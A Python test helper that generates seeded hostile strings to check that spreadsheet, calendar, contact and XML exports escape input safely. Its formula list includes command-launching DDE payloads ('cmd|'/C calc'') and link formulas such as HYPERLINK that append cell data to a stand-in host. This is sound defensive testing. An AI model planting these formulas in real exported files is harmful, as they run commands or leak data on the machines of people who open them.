"""Texts that spreadsheets, calendars, address books and readers of XML could misunderstand.

The same seed gives the same texts, so that a failure can be seen again.
"""

from __future__ import annotations

import random
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from collections.abc import Iterator

_STARTS = (
    *("=", "+", "-", "@", "＝", "＋", "－", "＠"),
    *("\t=", " =", "'=", "''+", "\u3000-", "\n=", "\x01=", "%", "|"),
)
_FORMULAS = (
    "1+1",
    "cmd|'/C calc'!A0",
    'HYPERLINK("https://a.example/"&A1,"x")',
    'WEBSERVICE("https://a.example")',
    'IMPORTXML("https://a.example","//a")',
    'DDE("cmd";"/C calc";"x")',
    "SUM(A1:A9)*cmd|' /C calc'!A0",
    "{1;2}",
    "R1C1",
    "A1",
    "86 512 6688 1234",
    "86",
    "0512-66881234",
    "1E5",
    "0.5%",
    "@SUM(1)",
)
_PIECES = (
    *_STARTS,
    *_FORMULAS,
    *(
        "BEGIN:VEVENT",
        "END:VCALENDAR",
        "END:VCARD",
        "\nBEGIN:VCARD\n",
        "ATTENDEE:mailto:a@a.example",
    ),
    *("\\n", "\\", "\\,", ";", ",", ":", '"', "'", "\n", "\r\n", "\t", " ", "=\r\n", "=0D=0A"),
    *("_x0041_", "<r>", "</r>", "<f>1</f>", "]]>", "<!--", "&amp;", "&#0;", "<?xml?>", "</feed>"),
    *("\u2028", "\u2029", "\x85", "\x00", "\x01", "\x0b", "\x1f", "\x7f", "\ufeff"),
    *(
        "恒达精密机械有限公司",
        "恒" * 26,
        "é" * 40,
        "👩‍👩‍👧‍👦",
        "x" * 80,
        "\u202e",
        "\u200d",
        "Ⅷ",
        "ﬀ",
    ),
    *("王芳", "ab", "007", "2026-02-30", "12:30", "TRUE", "#N/A", "internal:Sheet1!A1"),
)


def hostile_values(count: int, seed: int) -> Iterator[str]:
    """Yield so many texts, none of them blank: half of them formulas, half of them anything."""
    chance = random.Random(seed)
    found = 0
    while found < count:
        if found % 2:
            text = chance.choice(_STARTS) + chance.choice(_FORMULAS)
        else:
            text = "".join(chance.choices(_PIECES, k=chance.randint(1, 9)))
        if text.strip().strip("\x00\x01\x0b\x1f\x7f\x85\ufeff"):
            found += 1
            yield text
